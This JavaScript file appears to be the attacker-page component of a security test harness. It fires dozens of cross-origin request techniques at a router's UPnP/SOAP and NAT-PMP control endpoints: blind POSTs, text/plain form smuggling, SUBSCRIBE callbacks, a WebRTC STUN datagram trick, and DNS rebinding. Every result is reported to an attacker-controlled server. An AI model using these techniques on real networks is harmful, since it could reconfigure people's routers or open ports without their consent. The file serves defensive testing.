// What a page of an attacker's tries. The test gives it plan; each technique
// reports what it could read, and nothing else is believed of it.
"use strict"

const control = t => plan.Router + plan.URLs[t]
const envelope = t => plan.Envelope.replace("NAME", t)
const later = ms => new Promise(done => setTimeout(done, ms))

async function report(name, what) {
	await fetch(plan.Attacker + "/report/" + name, {method: "POST", body: JSON.stringify(what)})
}

// attempt runs the techniques beside each other, then tells that all are done.
async function attempt(techniques) {
	await Promise.all(Object.entries(techniques).map(async ([name, run]) => {
		let got
		const begin = performance.now()
		try {
			got = await Promise.race([run(name), later(20000).then(() => ({Error: "no end"}))])
		} catch (e) {
			got = {Error: String(e)}
		}
		await report(name, {Millis: Math.round(performance.now() - begin), ...got})
	}))
	await fetch(plan.Attacker + "/done", {method: "POST"})
}

const seen = async r => ({
	Status: r.status, Read: await r.text(),
	Fields: [...r.headers].map(f => f.join(": ")).join("; "),
})
const asks = options => async name => seen(await fetch(control(name), options(name)))
const blind = (type) => name => ({method: "POST", mode: "no-cors", body: type ? new Blob([envelope(name)], {type}) : envelope(name)})

// xhr is the older way of asks.
const xhr = (method, fields = {}, body = () => null) => name => new Promise((done, fail) => {
	const x = new XMLHttpRequest()
	x.open(method, control(name))
	for (const f in fields) x.setRequestHeader(f, fields[f])
	x.onload = () => done({Status: x.status, Read: x.responseText, Fields: x.getAllResponseHeaders()})
	x.onerror = () => fail("error")
	x.send(body(name))
})

// markup is what a frame shows; an answer without a body makes an empty page.
const markup = frame => {
	const text = frame.contentDocument.documentElement.outerHTML
	return text == "<html><head></head><body></body></html>" ? "" : text
}

// tag loads by an element and tells what of it is to be read.
const tag = (kind, attribute, read, more = {}) => name => new Promise(done => {
	const e = Object.assign(document.createElement(kind), more)
	const end = type => () => {
		let text = ""
		try {
			text = read(e) || ""
		} catch (x) {
			done({Error: type + ": " + x})
		}
		done({Read: String(text), Error: type})
	}
	e.onload = end("load")
	e.onerror = end("error")
	e[attribute] = control(name)
	document.body.append(e)
})

// form posts a form into a frame. With text/plain it is a whole document: the
// name and the value are what stands before and after the first "=".
const form = (enctype, method = "POST") => name => new Promise(done => {
	const frame = document.createElement("iframe")
	const f = document.createElement("form")
	const [before, after] = envelope(name).split(/=(.*)/s)
	frame.name = "frame-" + name
	document.body.append(frame)
	Object.assign(f, {action: control(name), method, enctype, target: frame.name})
	f.append(Object.assign(document.createElement("textarea"), {name: before, value: after}))
	document.body.append(f)
	frame.onload = () => {
		try {
			done({Read: markup(frame)})
		} catch (x) {
			done({Error: String(x)})
		}
	}
	f.submit()
})

const socket = name => new Promise(done => {
	const s = new WebSocket(control(name).replace("http", "ws"))
	s.onopen = () => done({Read: "open"})
	s.onerror = () => done({Error: "error"})
})

const stream = name => new Promise(done => {
	const s = new EventSource(control(name))
	s.onopen = s.onmessage = () => done({Read: "open"})
	s.onerror = () => (s.close(), done({Error: "error"}))
})

const worker = name => new Promise(done => {
	const code = "try { importScripts('" + control(name) + "'); postMessage('ran') } catch (e) { postMessage(String(e)) }"
	const w = new Worker(URL.createObjectURL(new Blob([code])))
	w.onmessage = m => done({Error: m.data})
})

const beacon = type => async name => {
	navigator.sendBeacon(control(name), new Blob([envelope(name)], type ? {type} : {}))
}

const soap = () => ({"SOAPAction": '"' + plan.Action + '"', "Content-Type": "text/xml"})
const callback = {"CALLBACK": "<http://" + location.hostname + ":7/>", "NT": "upnp:event", "TIMEOUT": "Second-1800"}

// stun has the browser send datagrams to NAT-PMP's port: STUN's first bytes,
// 0 and 1, are those of a request for a UDP port. One is of the search for own
// addresses, the others try a "peer". They come again and again; the test has
// heard enough when it says so.
async function stun() {
	const host = new URL(plan.Router).hostname
	const [one, other] = [{iceServers: [{urls: "stun:" + host + ":5351"}]}, {}].map(c => new RTCPeerConnection(c))
	one.createDataChannel("x")
	await one.setLocalDescription(await one.createOffer())
	await other.setRemoteDescription(one.localDescription)
	await other.setLocalDescription(await other.createAnswer())
	await one.setRemoteDescription(other.localDescription)
	await one.addIceCandidate({candidate: "candidate:1 1 udp 2130706431 " + host + " 5351 typ host", sdpMid: "0"})
	while (!(await fetch(plan.Attacker + "/stunned")).ok) await later(100)
}

// cross is a page that stays where it came from.
async function cross() {
	await attempt({
		"post": asks(blind()),
		"post-untyped": asks(blind("text/xml")),
		"post-plain": asks(blind("text/plain")),
		"post-keepalive": asks(name => ({...blind()(name), keepalive: true})),
		"beacon": beacon("text/plain"),
		"beacon-form": beacon("application/x-www-form-urlencoded"),
		"form-plain": form("text/plain"),
		"form": form("application/x-www-form-urlencoded"),
		"form-parts": form("multipart/form-data"),
		"soap": asks(name => ({method: "POST", headers: soap(), body: envelope(name)})),
		"soap-xhr": xhr("POST", soap(), envelope),
		"xml-xhr": xhr("POST", {"Content-Type": "text/xml"}, envelope),
		"subscribe": asks(() => ({method: "SUBSCRIBE", headers: callback})),
		"get": asks(() => ({})),
		"get-blind": asks(() => ({mode: "no-cors"})),
		"get-xhr": xhr("GET"),
		"get-referer": asks(() => ({mode: "no-cors", referrerPolicy: "unsafe-url"})),
		"get-named": name => fetch(plan.Named + plan.URLs[name], {mode: "no-cors"}).then(seen),
		"image": tag("img", "src", e => e.naturalWidth),
		"script": tag("script", "src", () => ""),
		"module": tag("script", "src", () => "", {type: "module"}),
		"style": tag("link", "href", e => [...e.sheet.cssRules].map(r => r.cssText), {rel: "stylesheet"}),
		"frame": tag("iframe", "src", markup),
		"object": tag("object", "data", markup),
		"form-get": form("application/x-www-form-urlencoded", "GET"),
		"worker": worker,
		"events": stream,
		"socket": socket,
		"stun": stun,
	})
}

// rebound is a page whose own name becomes the router's.
async function rebound() {
	await fetch(plan.Attacker + "/rebind", {method: "POST"}).catch(() => {})
	for (let i = 0; i < 200; i++) {
		const at = await fetch("/where").then(r => r.headers.get("Access-Control-Allow-Origin"), () => "*")
		if (at != "*") break
		await later(50)
	}
	plan.Router = "" // of its own origin
	await attempt({
		"own-get": asks(() => ({})),
		"own-head": asks(() => ({method: "HEAD"})),
		"own-xhr": xhr("GET"),
		"own-soap": asks(name => ({method: "POST", headers: soap(), body: envelope(name)})),
		"own-soap-xhr": xhr("POST", soap(), envelope),
		"own-form": form("text/plain"),
		"own-subscribe": asks(() => ({method: "SUBSCRIBE", headers: callback})),
		"own-options": asks(() => ({method: "OPTIONS"})),
		"own-frame": tag("iframe", "src", markup),
		"own-long": asks(() => ({headers: {"X-Long": "x".repeat(9000)}})),
		"own-events": stream,
	})
}
